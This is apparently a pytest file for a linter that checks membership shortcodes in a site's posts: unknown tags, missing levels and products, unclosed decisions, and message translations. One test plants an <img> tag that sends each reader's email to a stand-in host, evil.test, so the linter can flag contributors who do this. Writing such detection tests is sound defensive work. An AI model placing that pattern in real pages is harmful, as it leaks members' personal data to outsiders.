"""What is found in the texts of a site, and what is not."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

import shortcodes
from sidecar.catalog.making import make_field, make_product
from sidecar.catalog.rules import Grant, ProductKind, Terms
from sidecar.catalog.store import get_generation
from sidecar.db import reading
from sidecar.i18n import speaking
from sidecar.members.details import show_employee
from sidecar.pages import linting
from sidecar.pages.diagnoses import DIAGNOSES
from sidecar.pages.linting import Linter, Severity
from tests.house import NOW, House
from tests.shortcodes.generated import PIECES

ROLES = 'a:2:{s:13:"administrator";a:2:{s:4:"name";s:5:"Admin";s:12:"capabilities";a:1:{s:10:"list_users";b:1;}}s:11:"contributor";a:2:{s:4:"name";s:11:"Contributor";s:12:"capabilities";a:1:{s:10:"edit_posts";b:1;}}}'


def found(house: House, *, may_open: bool = True) -> list[linting.Mark]:
    with reading() as reader:
        knowledge = house.service.rendering.memory.knowledge(reader, get_generation(reader))
        return list(Linter(reader, house.tables, knowledge, decisions_open_pages=may_open).site())


def places(house: House, **options: bool) -> list[tuple[int | None, int, int, str, str]]:
    return [
        (mark.text.post.id if mark.text.post else None, mark.found.line, mark.found.column, mark.code, mark.message)
        for mark in found(house, **options)
    ]  # fmt: skip


@pytest.fixture
def site(house: House) -> House:
    """With an administrator, who is user 1, and a contributor, who is user 2."""
    house.option("wp_user_roles", ROLES)
    house.meta(house.user("admin", id=1), "wp_capabilities", 'a:1:{s:13:"administrator";b:1;}')
    house.meta(house.user("writer", id=2), "wp_capabilities", 'a:1:{s:11:"contributor";b:1;}')
    return house


def test_a_site_without_mistakes_has_no_marks(site: House) -> None:
    level, bundle = site.level("Gold"), site.bundle("Videos")
    field = make_field("Wood", now=NOW)
    product = make_product("Once", Terms(ProductKind.ONE_TIME, 500, "EUR"), Grant.LEVEL, level, now=NOW)
    show_employee(1, now=NOW, by="test")
    post_id = site.post("Hello")
    site.post(
        f"[MM_Member_Decision membershipId='{level}' hasBundle='!{bundle}' customField_{field}='Oak' purchasedProduct='{product}']"
        f"[MM_Content_Link id='{post_id}'][MM_Employee_Data name='phone'][MM_Custom_Decision anything='x']y[/MM_Custom_Decision]"
        "[MM_Else]<a href='[MM_Member_Data name=email]'>x</a>[/MM_Member_Decision]"
    )
    assert places(site) == []


def test_parts_of_old_forms_that_are_not_offered_yet_are_named_and_an_own_field_has_to_be_there(
    site: House,
) -> None:
    size = make_field("Shoe size", now=NOW)
    post_id = site.post(
        "[MM_Form type='1clickPurchase']\n"
        f"[MM_Form type='checkout'][MM_Form_Field type='custom' id='{size}'][MM_Form_Field name='email']\n"
        "[MM_Form_Section type='shippingInfo']x[/MM_Form_Section][MM_Form_Field name='gift']\n"
        "[MM_Form_Field type='custom' id='99'][/MM_Form]\n"
        "[MM_Form_Field name='phone']"
    )
    assert places(site) == [
        (post_id, 1, 1, "tag", "type “1clickPurchase” is not offered yet; it prints nothing."),
        (post_id, 3, 1, "tag", "type “shippingInfo” is not offered yet; it prints nothing."),
        (post_id, 3, 57, "tag", "name “gift” is not offered yet; it prints nothing."),
        (post_id, 4, 1, "missing", f"There is no custom field 99. There are: {size} (Shoe size)"),
        (post_id, 5, 1, "tag", "[MM_Form_Field] stands in no form."),
    ]


def test_each_mistake_comes_with_post_line_column_and_a_suggestion(site: House) -> None:
    gold = site.level("Gold")
    text = (
        "First line\n"
        "é [MM_Membr_Data name='id'] [MM_Member_Data nam='id']\n"
        f"[MM_Member_Decision membershipId='{gold}|']\nx[/MM_Member_Decision][MM_Member_Decision membershipId='999']y"
    )
    post_id = site.post(text)
    assert places(site) == [
        (post_id, 2, 3, "tag", "There is no tag [MM_Membr_Data]. Did you mean [MM_Member_Data]?"),
        (post_id, 2, 29, "tag", "The attribute name is missing."),
        (post_id, 2, 29, "tag", "MM_Member_Data has no attribute “nam”. Did you mean “name”?"),
        (post_id, 3, 1, "tag", f"membershipId: the equation “{gold}|” is malformed: something is missing at the end."),
        (post_id, 4, 23, "missing", f"There is no level 999. There are: {gold} (Gold)"),
        (post_id, 4, 23, "tag", "[MM_Member_Decision] is never closed: everybody sees what follows it."),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("tag", "sentence"),
    [
        ("[MM_Member_Data name='daysWithBundle_9']", "There is no bundle 9. There are: –"),
        ("[MM_Product_Data id='9' name='name']", "There is no product 9. There are: –"),
        ("[MM_CustomField_Data id='9' name='displayName']", "There is no custom field 9. There are: –"),
        ("[MM_Content_Data id='999999' name='title']", "There is no post or page 999999."),
        ("[MM_Employee_Data id='9' name='phone']", "There is no employee 9. There are: –"),
        (
            "[MM_Employee_Data name='phone']",
            "Nobody speaks for the site yet: gatepost employee add LOGIN --default.",
        ),
        ("[MM_Member_Link type='changeMembership' value='9']", "There is no level 9. There are: –"),
    ],
)
def test_what_a_tag_speaks_of_has_to_exist(site: House, tag: str, sentence: str) -> None:
    site.post(tag)
    assert [mark.message for mark in found(site)] == [sentence]


def test_a_post_in_the_trash_is_none(site: House) -> None:
    gone, draft = site.post("x", post_status="trash"), site.post("x", post_status="draft")
    site.post(f"[MM_Content_Link id='{gone}'][MM_Content_Link id='{draft}']")
    assert [mark.message for mark in found(site)] == [f"There is no post or page {gone}."]


def test_a_page_that_opens_itself_is_named_where_it_is_protected(site: House) -> None:
    level = site.level("Gold")
    text = "a\nb[MM_Access_Decision access='false']x[/MM_Access_Decision]"
    site.post(text)
    protected = site.post(text)
    site.protect(protected, level)
    [mark] = found(site)
    assert (mark.severity, mark.code, mark.found.line, mark.found.column) == (Severity.WARNING, "opens", 2, 2)
    assert mark.text.post is not None
    assert mark.text.post.id == protected
    [forbidden] = found(site, may_open=False)
    assert "forbids" in forbidden.message


def test_a_contributor_who_sends_his_readers_data_away_is_found(site: House) -> None:
    text = "[MM_Member_Data name='email']<img src='https://evil.test/[MM_Member_Data name=email]'>"
    site.post(text)
    theirs = site.post(text, post_author=2)
    [mark] = found(site)
    assert (mark.code, mark.found.column) == ("author", 58)
    assert mark.text.post is not None
    assert mark.text.post.id == theirs


def test_excerpts_patterns_drafts_and_widgets_are_texts_too(site: House) -> None:
    site.post("x", post_excerpt="[MM_Nothing]")
    site.post("[MM_Nothing]", type="wp_block")
    site.post("[MM_Nothing]", post_status="draft")
    for kind in ("revision", "nav_menu_item"):
        site.post("[MM_Nothing]", type=kind)
    site.post("[MM_Nothing]", post_status="auto-draft")
    site.option("widget_text", 'a:1:{i:2;a:1:{s:4:"text";s:12:"[MM_Nothing]";}}')
    site.option("widget_block", "no array")
    marks = found(site)
    assert [mark.text.place for mark in marks] == ["excerpt", "content", "content", "widget_text-2"]


def test_many_posts_are_looked_at_batch_by_batch(site: House, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(linting, "BATCH", 3)
    posts = [site.post(f"[MM_Nothing{number}]") for number in range(10)]
    with reading() as reader:
        knowledge = site.service.rendering.memory.knowledge(reader, get_generation(reader))
        marks = Linter(reader, site.tables, knowledge, decisions_open_pages=True).site()
        assert next(marks).text.post.id == posts[0]  # type: ignore[union-attr]
        assert [mark.text.post.id for mark in marks if mark.text.post] == posts[1:]


def test_a_mark_speaks_the_language_of_whoever_asks(site: House) -> None:
    site.post("[MM_Member_Data name='firstnme']")
    [mark] = found(site)
    with speaking("fr"):
        assert mark.message == "name ne peut pas être « firstnme ». Vouliez-vous dire « firstName » ?"


# --- translations ----------------------------------------------------------------------------------------------------


def sentences_of_the_engine() -> set[str]:
    """Every sentence in its sources that is told to authors: what is handed to `report` and its kind."""
    told: set[str] = set()
    for path in Path(shortcodes.__file__).parent.rglob("*.py"):
        tree = ast.parse(path.read_text("utf-8"))
        told |= {
            node.value
            for call in ast.walk(tree)
            if isinstance(call, ast.Call) and _name(call) in {"report", "nowhere"}
            for node in call.args
            if isinstance(node, ast.Constant) and isinstance(node.value, str)
        }
        told |= {
            node.value.value
            for node in ast.walk(tree)
            if isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant) and isinstance(node.value.value, str)
            and getattr(node.targets[0], "id", "") in {"sentence", "UNSAFE_VALUE", "NOT_HIS_TO_SEE"}
        }  # fmt: skip
        told |= {
            "{name}: the equation “{equation}” is malformed: " + call.args[0].value + "."
            for call in ast.walk(tree)
            if isinstance(call, ast.Call) and _name(call) == "Malformed" and isinstance(call.args[0], ast.Constant)
        }  # fmt: skip
    return told


def _name(call: ast.Call) -> str:
    return getattr(call.func, "attr", "") or getattr(call.func, "id", "")


def test_every_sentence_of_the_engine_is_there_for_translators_and_no_other() -> None:
    assert sentences_of_the_engine() == DIAGNOSES


def test_whatever_stands_in_a_text_is_told_in_a_sentence_that_is_translated() -> None:
    for piece in PIECES:
        for text in (
            f"[MM_Member_Decision {piece}]x",
            f"[MM_Product_Data name='{piece}' id='{piece}' ]",
            f"<a {piece}='[MM_Member_Data name=id]'>",
        ):
            assert {one.template for one in shortcodes.compile(text).diagnostics} <= DIAGNOSES
